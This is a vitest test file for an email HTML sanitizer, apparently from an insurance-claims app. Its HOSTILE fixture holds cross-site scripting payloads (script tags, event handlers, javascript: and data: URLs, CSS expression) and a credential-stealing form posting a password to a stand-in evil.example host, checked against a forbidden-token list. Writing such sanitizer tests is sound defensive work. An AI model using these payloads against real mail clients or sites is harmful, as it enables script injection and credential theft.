import { describe, expect, it } from 'vitest';
import { emailPreview, findMentions, restoreRemoteImages, sanitizeEmailHtml, textFromHtml } from './sanitize';

const HOSTILE = `
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/go">
<base href="https://evil.example/">
<link rel=stylesheet href=https://evil.example/s.css>
<style>body{background:url(https://evil.example/x.png)}</style>
<title>Phish</title>
</head><body>
<script>alert(1)</script>
<img src=x onerror=alert(2)>
<a href="javascript:alert(3)">one</a>
<a href="JaVaScRiPt&colon;alert(4)">two</a>
<a href="  javascript:alert(6)">three</a>
<a href="vbscript:msgbox(7)">four</a>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert(8)"><circle r="1"/></svg>
<math><mi xlink:href="javascript:alert(9)">m</mi></math>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<div style="background:url(https://evil.example/y.png)">bg</div>
<div style="width:expression(alert(5))">expr</div>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data</a>
<object data="https://evil.example/flash.swf"><embed src="https://evil.example/e.swf"></object>
<p onclick="alert(11)" onmouseover="alert(12)">Dear adjuster,</p>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<img src="//cdn.example/logo.png" data-remote-src="javascript:alert(13)">
</body></html>`;

/** Every src and style value in the output. */
function loadingAttributes(html: string): string[] {
  return [
    ...html.matchAll(
      /\s(src|style|background|action|formaction|srcset|poster)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi,
    ),
  ].map((m) => `${m[1]}=${m[2]}`);
}

describe('sanitizeEmailHtml', () => {
  it('lets nothing executable or self-loading through', () => {
    const { html, remoteImages } = sanitizeEmailHtml(HOSTILE);
    const lower = html.toLowerCase();
    for (const forbidden of [
      '<script',
      'alert(',
      'onerror',
      'onload',
      'onclick',
      'onmouseover',
      'javascript',
      'vbscript',
      '<iframe',
      '<svg',
      '<math',
      '<form',
      '<input',
      '<button',
      '<meta',
      '<base',
      '<link',
      '<style',
      '<object',
      '<embed',
      'expression',
      'url(',
      'data:text/html',
      'evil.example',
      '<title',
      'phish',
    ]) {
      expect(lower, forbidden).not.toContain(forbidden);
    }
    for (const attribute of loadingAttributes(html)) expect(attribute).not.toMatch(/https?:|\/\//i);
    expect(html).toContain('<p>Dear adjuster,</p>');
    expect(html).toContain(
      '<img data-remote-src="https://tracker.example/pixel.gif" width="1" height="1" />',
    );
    expect(html).toContain('<img data-remote-src="https://cdn.example/logo.png" />');
    expect(remoteImages).toBe(2);
  });

  it('keeps formatting, safe links and safe inline images', () => {
    const input =
      '<table border="1" cellpadding="4"><tr><td colspan="2" style="color:#333;text-align:center;padding:4px 8px;position:fixed">Claim</td></tr></table>' +
      '<a href="https://carrier.example/claims/1" rel="opener" target="_self">portal</a> <a href="mailto:adjuster@carrier.example">mail</a>' +
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="sig"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">' +
      '<img src="cid:logo@mail" alt="Logo"><font color="red" face="Arial">Urgent</font>';
    const { html, remoteImages } = sanitizeEmailHtml(input);
    expect(remoteImages).toBe(0);
    expect(html).toContain('<td colspan="2" style="color:#333;text-align:center;padding:4px 8px">Claim</td>');
    expect(html).toContain(
      '<a href="https://carrier.example/claims/1" rel="noopener noreferrer nofollow" target="_blank">portal</a>',
    );
    expect(html).toContain(
      '<a href="mailto:adjuster@carrier.example" target="_blank" rel="noopener noreferrer nofollow">mail</a>',
    );
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="sig" />');
    expect(html).toContain('<img alt="svg" />');
    expect(html).toContain('<span data-inline-image>[image: Logo]</span>');
    expect(html).toContain('<font color="red" face="Arial">Urgent</font>');
  });

  it('restores remote images only when asked, and only http(s) ones', () => {
    const { html } = sanitizeEmailHtml(HOSTILE);
    const restored = restoreRemoteImages(html);
    expect(restored).toContain('<img src="https://tracker.example/pixel.gif" width="1" height="1" />');
    expect(restored).toContain('<img src="https://cdn.example/logo.png" />');
    expect(restored).not.toContain('data-remote-src');
    // A stored body someone tampered with is checked again.
    expect(
      restoreRemoteImages(
        '<img data-remote-src="javascript:alert(1)"><img data-remote-src="data:text/html,x">',
      ),
    ).toBe('<img /><img />');
  });
});

describe('textFromHtml and emailPreview', () => {
  it('gives the words of the body with entities decoded and whitespace collapsed', () => {
    const html =
      '<style>p{color:red}</style><script>var x = 1;</script><p>Dear&nbsp;Ms.&nbsp;Rivera,</p><p>The estimate is &lt;$12,400&gt; &amp; rising.</p>' +
      '<table><tr><td>Roof</td><td>Water</td></tr></table>';
    expect(textFromHtml(html)).toBe('Dear Ms. Rivera, The estimate is <$12,400> & rising. Roof Water');
  });

  it('cuts the preview at 100 characters', () => {
    const text = `Hello\n\n   there   <b>team</b> ${'x'.repeat(200)}`;
    const preview = emailPreview(text);
    expect(preview).toHaveLength(100);
    expect(preview.startsWith('Hello there team xxx')).toBe(true);
    expect(emailPreview('  Short   note ')).toBe('Short note');
  });
});

describe('findMentions', () => {
  it('finds case, claim and policy numbers in realistic subjects', () => {
    expect(findMentions('RE: case-2026-004 – roof inspection for CLM-2026-88339 rescheduled')).toEqual([
      'CASE-2026-004',
      'CLM-2026-88339',
    ]);
    expect(
      findMentions('Policy #POL-4417337 renewal; Claim No.: HO-2026-5513 under Policy Number 88-771-2'),
    ).toEqual(['POL-4417337', 'HO-2026-5513', '88-771-2']);
    expect(findMentions('Fwd: Your claim number: 0042178915 (State Farm) and POL-4417200')).toEqual([
      '0042178915',
      'POL-4417200',
    ]);
    expect(findMentions('Claim # clm-2026-1 and CASE-2026-004 again: CASE-2026-004')).toEqual([
      'CLM-2026-1',
      'CASE-2026-004',
    ]);
  });

  it('ignores words that only look like labels', () => {
    expect(findMentions('Claims adjuster meeting in 2026; policy renewal next week; claim 2')).toEqual([]);
    expect(findMentions('CASE-26-4 and POL- and CLM-2026')).toEqual([]);
  });
});
